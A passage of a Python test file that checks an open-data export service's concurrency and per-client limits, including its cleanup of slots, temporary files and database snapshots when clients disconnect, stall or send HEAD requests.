        assert response.status_code == 503
        assert response.json()["errors"][0]["extensions"]["code"] == "SERVICE_UNAVAILABLE"
        assert "retry-after" not in response.headers
    monkeypatch.setattr(AsyncEngine, "connect", connect)
    # The failed export gave its slot back.
    assert (await client.get("/open-data/specialists.xlsx")).status_code == 200


async def test_exports_beyond_the_limit_at_once_are_refused_and_a_finished_one_frees_its_slot(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(open_data, "MAX_EXPORTS", 1)
    for fmt in FORMATS:  # one after another: each finished export gives its slot back
        assert (await client.get(f"/open-data/organizations.{fmt}")).status_code == 200
    monkeypatch.setattr(open_data, "MAX_EXPORTS", 0)
    refused = await client.get("/open-data/organizations.csv")
    assert refused.status_code == 503
    assert refused.headers["retry-after"] == "30"
    assert refused.json()["errors"][0]["extensions"]["code"] == "SERVICE_UNAVAILABLE"


@pytest.mark.parametrize("fmt", FORMATS)
async def test_a_client_hanging_up_mid_file_frees_the_snapshot_the_slot_and_the_files(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    fmt: str,
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(storage.open_data, "BATCH_SIZE", 2)
    monkeypatch.setattr(open_data, "CHUNK_SIZE", 512)
    monkeypatch.setattr(open_data, "MAX_EXPORTS", 1)
    for day in range(1, 8):
        await add_organization(engine, included_on=date(2024, 1, day))
    app = create_app(engine, run_migrations=False, clock=lambda: NOW)
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": f"/open-data/organizations.{fmt}",
        "raw_path": f"/open-data/organizations.{fmt}".encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver")],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    bodies: list[bytes] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        if message["type"] == "http.response.body":
            if bodies:
                raise OSError("the client went away")
            bodies.append(message["body"])

    with contextlib.suppress(Exception):
        await app(scope, receive, send)

    assert len(bodies) == 1  # it was cut off after its first chunk
    assert list((tmp_path / "tmp").iterdir()) == []  # the workbook's directory is gone
    assert await no_snapshot_left(engine)
    assert (await client.get(f"/open-data/organizations.{fmt}")).status_code == 200


# --- per client, and stalled clients -----------------------------------------------------------


def http_scope(
    path: str, host: str = "203.0.113.7", *, method: str = "GET", spec_version: str = "2.4"
) -> dict[str, Any]:
    return {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": spec_version},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver")],
        "client": (host, 50000),
        "server": ("testserver", 80),
    }


def connected() -> Callable[[], Awaitable[Message]]:
    """The receive of a client that sent its request and stays connected."""
    requested = False

    async def receive() -> Message:
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await anyio.Event().wait()
        return {"type": "http.disconnect"}

    return receive


async def answer(
    app: Starlette, path: str, host: str = "203.0.113.7", method: str = "GET"
) -> tuple[int, dict[bytes, bytes], bytes]:
    messages: list[Message] = []

    async def send(message: Message) -> None:
        messages.append(message)

    await app(http_scope(path, host, method=method), connected(), send)
    start, *body = messages
    return start["status"], dict(start["headers"]), b"".join(m.get("body", b"") for m in body)


def exports(app: Starlette) -> Any:
    """The endpoints behind open_data.routes: `running` counts the exports holding a slot."""
    endpoint: Any = app.routes[0].endpoint  # type: ignore[attr-defined]
    return endpoint.__self__


async def no_snapshot_left(engine: AsyncEngine) -> bool:
    async with engine.connect() as conn:
        if engine.dialect.name == "sqlite":  # a snapshot still open keeps the WAL from emptying
            checkpoint = (await conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")).one()
            return bool(checkpoint[0] == 0)  # not busy
        # No other session of this database is in a transaction.
        open_transactions = await conn.scalar(
            text(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND pid <> pg_backend_pid() AND xact_start IS NOT NULL"
            )
        )
        return bool(open_transactions == 0)


async def test_a_client_gets_one_export_at_a_time_and_others_are_not_held_up(
    engine: AsyncEngine,
) -> None:
    await add_organization(engine)
    app = Starlette(routes=open_data.routes(engine))
    streaming, release = anyio.Event(), anyio.Event()

    async def slow_reader(message: Message) -> None:
        if message["type"] == "http.response.body":
            streaming.set()
            await release.wait()

    async with anyio.create_task_group() as group:
        scope = http_scope("/open-data/organizations.csv")
        group.start_soon(app, scope, connected(), slow_reader)
        await streaming.wait()

        status, headers, body = await answer(app, "/open-data/specialists.json")
        assert status == 429
        assert headers[b"retry-after"] == b"30"
        assert orjson.loads(body)["errors"][0]["extensions"]["code"] == "RATE_LIMITED"
        # HEAD reads no rows and takes no slot; another client is served.
        assert (await answer(app, "/open-data/specialists.json", method="HEAD"))[0] == 200
        assert (await answer(app, "/open-data/organizations.csv", "203.0.113.8"))[0] == 200
        assert exports(app).running == 1
        release.set()

    assert exports(app).running == 0
    assert (await answer(app, "/open-data/specialists.json"))[0] == 200


@pytest.mark.parametrize("spec_version", ["2.3", "2.4"])  # uvicorn's, and Starlette's other path
@pytest.mark.parametrize("fmt", FORMATS)
async def test_a_client_that_stops_reading_is_dropped_and_frees_everything(
    engine: AsyncEngine,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    fmt: str,
    spec_version: str,
) -> None:
    monkeypatch.setattr(open_data, "EXPORT_SEND_TIMEOUT", 0.05)
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    await add_organization(engine)
    app = Starlette(routes=open_data.routes(engine))
    sent: list[str] = []

    async def stalled(message: Message) -> None:
        sent.append(message["type"])
        if message["type"] == "http.response.body":
            await anyio.Event().wait()  # never returns: the client's window stays shut

    path = f"/open-data/organizations.{fmt}"
    with anyio.fail_after(30):  # a guard, not a measure: without the send timeout this hangs
        await app(http_scope(path, spec_version=spec_version), connected(), stalled)

    assert sent == ["http.response.start", "http.response.body"]
    assert exports(app).running == 0
    assert not any(temporary.iterdir())  # the workbook's directory is gone
    assert await no_snapshot_left(engine)
    assert (await answer(app, path))[0] == 200  # the same client may start again


@pytest.mark.parametrize("fmt", FORMATS)
async def test_a_response_that_never_starts_frees_its_slot_before_the_call_returns(
    engine: AsyncEngine, fmt: str
) -> None:
    await add_organization(engine)
    app = Starlette(routes=open_data.routes(engine))

    async def gone(message: Message) -> None:
        raise OSError("the client went away before the headers")

    with contextlib.suppress(Exception):
        await app(http_scope(f"/open-data/organizations.{fmt}"), connected(), gone)

    assert exports(app).running == 0  # now, not when the garbage collector gets to it
    assert await no_snapshot_left(engine)


async def test_head_answers_the_headers_reading_the_change_stamp_only(
    client: httpx.AsyncClient, registers: Registers, sql_counter: StatementCounter
) -> None:
    sql_counter.statements.clear()
    response = await client.head("/open-data/organizations.xlsx?lang=ru")
    assert response.status_code == 200
    assert response.headers["content-disposition"].endswith('filename="organizations-ru.xlsx"')
    assert response.content == b""
    assert "content-length" not in response.headers
    assert sql_counter.count == 1  # the change stamp, for the ETag
    get = await client.get("/open-data/organizations.xlsx?lang=ru")
    assert response.headers["etag"] == get.headers["etag"]
